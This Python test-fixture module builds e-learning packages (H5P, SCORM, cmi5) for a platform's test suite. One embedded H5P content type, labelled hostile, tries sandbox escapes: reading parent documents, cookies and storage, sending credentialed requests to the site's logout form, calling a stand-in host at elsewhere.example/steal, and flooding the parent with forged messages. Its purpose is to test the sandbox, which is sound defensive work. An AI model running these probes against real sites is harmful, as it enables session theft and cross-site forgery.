"""Builds small packages of our own in the formats' structure: content types, questions, courses; honest ones and one that tries everything."""

import json
from collections.abc import Mapping
from typing import Any

from tests.media.archives import picture, zipped

CHOICE = """
H5P.TestChoice = (function ($) {
  function TestChoice(params, id, extras) {
    H5P.EventDispatcher.call(this);
    const self = this;
    const before = extras && extras.previousState;
    let chosen = before ? before.chosen : null;
    self.attach = function ($place) {
      const place = $place.get(0);
      const question = document.createElement('p');
      question.textContent = params.question;
      place.appendChild(question);
      params.answers.forEach(function (answer, index) {
        const button = document.createElement('button');
        button.type = 'button';
        button.textContent = answer.text;
        button.setAttribute('aria-pressed', String(chosen === index));
        button.addEventListener('click', function () {
          chosen = index;
          place.querySelectorAll('button').forEach(function (one, at) { one.setAttribute('aria-pressed', String(at === index)); });
          const event = self.createXAPIEventTemplate('answered');
          event.setScoredResult(answer.correct ? 1 : 0, 1, self, true, answer.correct);
          event.data.statement.result.response = String(index);
          self.trigger(event);
          self.trigger('resize');
        });
        place.appendChild(button);
      });
      if (params.picture) { const image = document.createElement('img'); image.alt = ''; image.src = H5P.getPath(params.picture.path, id); place.appendChild(image); }
    };
    self.getCurrentState = function () { return chosen === null ? undefined : { chosen: chosen }; };
    self.getScore = function () { return chosen !== null && params.answers[chosen].correct ? 1 : 0; };
    self.getMaxScore = function () { return 1; };
  }
  TestChoice.prototype = Object.create(H5P.EventDispatcher.prototype);
  return TestChoice;
})(H5P.jQuery);
"""
SET = """
H5P.TestSet = (function ($) {
  function TestSet(params, id, extras) {
    H5P.EventDispatcher.call(this);
    const self = this;
    self.attach = function ($place) {
      const place = $place.get(0);
      const questions = params.questions.map(function (part) {
        const inner = document.createElement('section');
        place.appendChild(inner);
        const one = H5P.newRunnable(part, id, H5P.jQuery(inner), undefined, { parent: self });
        one.on('xAPI', function (event) { if (event.getVerb() === 'answered') { event.data.statement.context.contextActivities.parent = [{ id: H5PIntegration.contents['cid-' + id].url }]; } });
        return one;
      });
      const finish = document.createElement('button');
      finish.textContent = 'Finish';
      finish.addEventListener('click', function () {
        const score = questions.reduce(function (sum, one) { return sum + one.getScore(); }, 0);
        self.triggerXAPIScored(score, questions.length, 'completed', true, score === questions.length);
      });
      place.appendChild(finish);
    };
  }
  TestSet.prototype = Object.create(H5P.EventDispatcher.prototype);
  return TestSet;
})(H5P.jQuery);
"""
# Tries everything that bar.md F3 to F5 name, and shows what came of it.
HOSTILE = """
H5P.TestHostile = function (params, id) {
  H5P.EventDispatcher.call(this);
  this.attach = async function ($place) {
    const place = $place.get(0);
    const say = function (what, result) {
      const line = document.createElement('li');
      line.textContent = what + ' ' + result;
      place.appendChild(line);
    };
    const tries = {
      'parent document': function () { return window.parent.document.title; },
      'top document': function () { return window.top.document.body.innerHTML; },
      'frame element': function () { if (!window.frameElement) throw new Error('none'); return window.frameElement; },
      'real cookie': function () { const got = Object.getOwnPropertyDescriptor(Document.prototype, 'cookie').get.call(document); return got; },
      'real storage': function () { return Object.getOwnPropertyDescriptor(Window.prototype, 'localStorage').get.call(window).length; },
      'database': function () { return indexedDB.open('x') && new Promise(function (yes, no) { const open = indexedDB.open('x'); open.onsuccess = yes; open.onerror = no; }); },
      'service worker': function () { return navigator.serviceWorker.register('x.js'); },
      'pop-up': function () { const got = window.open('about:blank'); if (!got) throw new Error('none'); return got; },
      'top navigation': function () { window.top.location = params.site + '/about/'; },
      'site page': function () { return fetch(params.site + '/my/', { credentials: 'include', mode: 'no-cors' }); },
      'site form': function () { return fetch(params.site + '/accounts/logout/', { method: 'POST', credentials: 'include', mode: 'no-cors' }); },
      'site picture': function () { return new Promise(function (yes, no) { const image = new Image(); image.onload = yes; image.onerror = no; image.src = params.site + '/static/icons.svg'; }); },
      'other host': function () { return fetch('https://elsewhere.example/steal', { mode: 'no-cors' }); },
      'beacon': function () { if (!navigator.sendBeacon(params.site + '/my/', 'x')) throw new Error('none'); return new Promise(function (yes, no) { document.addEventListener('securitypolicyviolation', function (event) { if (event.blockedURI.includes('/my')) no(new Error('policy')); }); setTimeout(yes, 300); }); },
      'other content': function () { return fetch(location.href.replace(/c\\/[^/]+/, 'c/' + 'x'.repeat(40))).then(function (answer) { if (!answer.ok) throw new Error(answer.status); }); },
      'nested frame': function () { return new Promise(function (yes, no) { const frame = document.createElement('iframe'); document.addEventListener('securitypolicyviolation', function (event) { if (event.effectiveDirective === 'frame-src') no(new Error('policy')); }); frame.src = params.site + '/my/'; document.body.appendChild(frame); setTimeout(yes, 500); }); },
    };
    for (const [name, attempt] of Object.entries(tries)) {
      try {
        const got = await attempt();
        say(name, name === 'top navigation' ? 'TRIED' : 'ALLOWED ' + String(got).slice(0, 60));
      } catch (error) {
        say(name, 'BLOCKED');
      }
    }
    for (let number = 0; number < 300; number += 1) window.parent.postMessage({ accord: 1, kind: 'statement', statement: { forged: number } }, '*');
    window.parent.postMessage({ accord: 1, kind: 'state', part: '', data: 'x'.repeat(1000000) }, '*');
    window.parent.postMessage('rubbish', '*');
    say('end', 'REACHED');
  };
};
"""
BROKEN = "throw new Error('this content type does not start');"


def library(
    name: str,
    script: str,
    *,
    version: str = "1.0.3",
    needs: tuple[str, ...] = (),
    more: Mapping[str, bytes | str] | None = None,
    **fields: Any,
) -> dict[str, bytes | str]:
    """The files of a content type."""
    major, minor, patch = (int(part) for part in version.split("."))
    told = {
        "title": name.split(".")[-1],
        "machineName": name,
        "majorVersion": major,
        "minorVersion": minor,
        "patchVersion": patch,
        "runnable": 1,
        "license": "MIT",
        "preloadedJs": [{"path": "script.js"}],
        "preloadedCss": [{"path": "style.css"}],
        "preloadedDependencies": [dependency(need) for need in needs],
        "coreApi": {"majorVersion": 1, "minorVersion": 24},
        **fields,
    }
    folder = f"{name}-{major}.{minor}"
    files = {"library.json": json.dumps(told), "script.js": script, "style.css": ".h5p-content { padding: 8px; }", **(more or {})}
    return {f"{folder}/{path}": content for path, content in files.items()}


def dependency(name: str) -> dict[str, Any]:
    machine, _, numbers = name.partition(" ")
    major, _, minor = numbers.partition(".")
    return {"machineName": machine, "majorVersion": int(major), "minorVersion": int(minor)}


CHOICE_LIBRARY = library("H5P.TestChoice", CHOICE)
SET_LIBRARY = library("H5P.TestSet", SET)


def question(text: str = "Who decides whether to go on?") -> dict[str, Any]:
    return {"question": text, "answers": [{"text": "The officer", "correct": False}, {"text": "She does", "correct": True}]}


def h5p(
    main: str,
    params: Any,
    *libraries: Mapping[str, bytes | str],
    needs: tuple[str, ...] | None = None,
    title: str = "Small practice",
    more: Mapping[str, bytes | str] | None = None,
    **head: Any,
) -> bytes:
    """An H5P package."""
    told = {
        "title": title,
        "language": "en",
        "mainLibrary": main.split(" ")[0],
        "embedTypes": ["div"],
        "license": "CC BY",
        "preloadedDependencies": [dependency(need) for need in (needs or (main,))],
        **head,
    }
    files: dict[str, bytes | str] = {"h5p.json": json.dumps(told), "content/content.json": json.dumps(params), **(more or {})}
    for one in libraries:
        files |= one
    return zipped(files)


def choice_package(**more: Any) -> bytes:
    return h5p("H5P.TestChoice 1.0", question(), CHOICE_LIBRARY, **more)


PARTS = ("11111111-1111-4111-8111-111111111111", "22222222-2222-4222-8222-222222222222")


def set_package() -> bytes:
    """Two questions in one; the content type of the questions is named inside the content only."""
    questions = [
        {"library": "H5P.TestChoice 1.0", "params": question(text), "subContentId": part, "metadata": {"title": text}}
        for text, part in zip(("First question", "Second question"), PARTS, strict=True)
    ]
    return h5p("H5P.TestSet 1.0", {"questions": questions}, SET_LIBRARY, CHOICE_LIBRARY)


def hostile_package(site: str) -> bytes:
    return h5p("H5P.TestHostile 1.0", {"site": site}, library("H5P.TestHostile", HOSTILE))


def broken_package() -> bytes:
    return h5p("H5P.TestBroken 1.0", {}, library("H5P.TestBroken", BROKEN))


def picture_package() -> bytes:
    params = {**question(), "picture": {"path": "images/teal.jpg"}}
    return h5p("H5P.TestChoice 1.0", params, CHOICE_LIBRARY, more={"content/images/teal.jpg": picture("JPEG", exif=True)})


SCO_12 = """<!doctype html><html lang="en"><head><title>{title}</title><script src="../shared/sco.js"></script></head>
<body onload="begin()"><h1>{title}</h1><p id="where"></p>
<button onclick="go()">Next page</button><button onclick="finish(90)">Finish well</button></body></html>"""
SCO_12_SCRIPT = """
function find(w) { while (w && !w.API && w.parent !== w) w = w.parent; return w.API; }
var api = find(window);
function show() { document.getElementById('where').textContent = 'Page ' + (api.LMSGetValue('cmi.core.lesson_location') || '1'); }
function begin() { api.LMSInitialize(''); show(); }
function go() { var page = Number(api.LMSGetValue('cmi.core.lesson_location') || '1') + 1; api.LMSSetValue('cmi.core.lesson_location', String(page)); api.LMSSetValue('cmi.suspend_data', 'page=' + page); api.LMSCommit(''); show(); }
function finish(score) { api.LMSSetValue('cmi.core.score.raw', String(score)); api.LMSSetValue('cmi.core.score.max', '100'); api.LMSSetValue('cmi.core.lesson_status', 'passed'); api.LMSFinish(''); document.getElementById('where').textContent = 'Finished'; }
"""
SCO_2004_SCRIPT = """
function find(w) { while (w && !w.API_1484_11 && w.parent !== w) w = w.parent; return w.API_1484_11; }
var api = find(window);
function show() { document.getElementById('where').textContent = 'Page ' + (api.GetValue('cmi.location') || '1'); }
function begin() { api.Initialize(''); show(); }
function go() { var page = Number(api.GetValue('cmi.location') || '1') + 1; api.SetValue('cmi.location', String(page)); api.SetValue('cmi.exit', 'suspend'); show(); }
function finish(score) { api.SetValue('cmi.score.scaled', String(score / 100)); api.SetValue('cmi.completion_status', 'completed'); api.SetValue('cmi.success_status', 'passed'); api.Terminate(''); document.getElementById('where').textContent = 'Finished'; }
"""
MANIFEST_12 = """<?xml version="1.0" encoding="UTF-8"?>
<{p}manifest identifier="M" xmlns{c}="http://www.imsproject.org/xsd/imscp_rootv1p1p2" xmlns:adl="http://www.adlnet.org/xsd/adlcp_rootv1p2">
<{p}metadata><{p}schema>ADL SCORM</{p}schema><{p}schemaversion>1.2</{p}schemaversion></{p}metadata>
<{p}organizations default="O"><{p}organization identifier="O"><{p}title>Course of two parts</{p}title>
<{p}item identifier="I1" identifierref="R1"><{p}title>First part</{p}title><adl:masteryscore>80</adl:masteryscore></{p}item>
<{p}item identifier="I2" identifierref="R2" parameters="?page=2"><{p}title>Second part</{p}title></{p}item>
</{p}organization></{p}organizations>
<{p}resources><{p}resource identifier="R1" type="webcontent" adl:scormtype="sco" href="one/index.html"/>
<{p}resource identifier="R2" type="webcontent" adl:scormtype="sco" href="two/index.html"/></{p}resources></{p}manifest>"""
MANIFEST_2004 = """<?xml version="1.0" encoding="UTF-8"?>
<manifest identifier="M" xmlns="http://www.imsglobal.org/xsd/imscp_v1p1" xmlns:a="http://www.adlnet.org/xsd/adlcp_v1p3" xmlns:ss="http://www.imsglobal.org/xsd/imsss" xml:base="./">
<metadata><schema>ADL SCORM</schema><schemaversion>2004 4th Edition</schemaversion></metadata>
<organizations default="O"><organization identifier="O"><title>Course of two parts</title>
<item identifier="I1" identifierref="R1"><title>First part</title><ss:sequencing><ss:objectives><ss:primaryObjective satisfiedByMeasure="true">
<ss:minNormalizedMeasure>0.8</ss:minNormalizedMeasure></ss:primaryObjective></ss:objectives></ss:sequencing></item>
<item identifier="I2" identifierref="R2"><title>Second part</title></item></organization></organizations>
<resources><resource identifier="R1" type="webcontent" a:scormType="sco" href="index.html" xml:base="one/"/>
<resource identifier="R2" type="webcontent" a:scormType="sco" href="two/index.html"/></resources></manifest>"""


def scorm12(*, prefix: str = "") -> bytes:
    """A SCORM 1.2 course of two parts; with a prefix, its manifest is written under one."""
    manifest = MANIFEST_12.format(p=f"{prefix}:" if prefix else "", c=f":{prefix}" if prefix else "")
    return course(manifest, SCO_12_SCRIPT)


def scorm2004() -> bytes:
    return course(MANIFEST_2004, SCO_2004_SCRIPT)


def course(manifest: str, script: str, **more: bytes | str) -> bytes:
    pages = {f"{folder}/index.html": SCO_12.format(title=title) for folder, title in (("one", "First part"), ("two", "Second part"))}
    return zipped({"imsmanifest.xml": manifest, "shared/sco.js": script, **pages, **more})


CMI5 = "https://w3id.org/xapi/profiles/cmi5/v1/CourseStructure.xsd"
AU_PAGE = """<!doctype html><html lang="en"><head><title>Unit</title></head><body><h1>Unit</h1><p id="state">Waiting</p>
<button id="pass">Pass</button><script>
const given = new URLSearchParams(location.search);
const actor = JSON.parse(given.get('actor'));
let auth = '', context = null;
function headers() { return { 'Authorization': 'Basic ' + auth, 'X-Experience-API-Version': '1.0.3', 'Content-Type': 'application/json' }; }
function say(verb, more) {
  const category = [{ id: 'https://w3id.org/xapi/cmi5/context/categories/cmi5' }];
  const body = Object.assign({ id: crypto.randomUUID ? crypto.randomUUID() : undefined, actor: actor, verb: { id: 'http://adlnet.gov/expapi/verbs/' + verb }, object: { objectType: 'Activity', id: given.get('activityId') }, timestamp: new Date().toISOString(), context: Object.assign({}, context, { contextActivities: Object.assign({}, context.contextActivities, { category: category }) }) }, more);
  return fetch(given.get('endpoint') + 'statements', { method: 'POST', headers: headers(), body: JSON.stringify(body) }).then(function (answer) { if (!answer.ok) throw new Error(answer.status); });
}
async function begin() {
  auth = (await (await fetch(given.get('fetch'), { method: 'POST' })).json())['auth-token'];
  const where = new URLSearchParams({ stateId: 'LMS.LaunchData', activityId: given.get('activityId'), agent: given.get('actor'), registration: given.get('registration') });
  context = (await (await fetch(given.get('endpoint') + 'activities/state?' + where, { headers: headers() })).json()).contextTemplate;
  await say('initialized');
  document.getElementById('state').textContent = 'Initialised';
}
document.getElementById('pass').addEventListener('click', async function () {
  await say('passed', { result: { score: { scaled: 0.9 }, success: true } });
  await say('completed', { result: { completion: true } });
  await say('terminated');
  document.getElementById('state').textContent = 'Finished';
});
begin().catch(function (error) { document.getElementById('state').textContent = 'Failed ' + error; });
</script></body></html>"""


def unit(number: int, **attributes: str) -> str:
    told = {"id": f"http://agency.example/au/{number}", "moveOn": "CompletedAndPassed", "masteryScore": "0.8", **attributes}
    words = " ".join(f'{name}="{value}"' for name, value in told.items() if value)
    return f'<au {words}><title><langstring lang="en">Unit {number}</langstring></title><description><langstring lang="en">D</langstring></description><url>unit{number}.html?mode=a</url></au>'


def structure(inside: str, *, course: str = "http://agency.example/course") -> str:
    title = '<title><langstring lang="en-GB">A course of units</langstring></title><description><langstring lang="en-GB">D</langstring></description>'
    return f'<?xml version="1.0" encoding="utf-8"?><courseStructure xmlns="{CMI5}"><course id="{course}">{title}</course>{inside}</courseStructure>'


def block(inside: str, identifier: str = "http://agency.example/block") -> str:
    return f'<block id="{identifier}"><title><langstring lang="en">B</langstring></title><description><langstring lang="en">D</langstring></description>{inside}</block>'


def cmi5(inside: str | None = None, **more: str) -> bytes:
    """A cmi5 course: one unit by itself and one in a block, unless told otherwise."""
    text = structure(inside if inside is not None else unit(1) + block(unit(2)), **more)
    return zipped({"cmi5.xml": text, "unit1.html": AU_PAGE, "unit2.html": AU_PAGE})
